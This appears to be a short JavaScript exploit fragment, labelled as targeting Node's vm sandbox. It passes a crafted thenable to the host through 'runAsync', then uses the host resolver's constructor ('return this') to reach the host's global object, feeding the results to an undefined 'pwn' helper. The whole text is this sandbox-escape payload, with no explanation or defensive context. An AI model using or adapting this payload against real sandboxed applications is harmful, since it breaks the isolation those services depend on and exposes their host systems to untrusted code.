// Node vm: thenable given to the host through runAsync
Promise.resolve({ then(res) { pwn(res); try { pwn(res.constructor('return this')()) } catch (e) {} res(1) } })
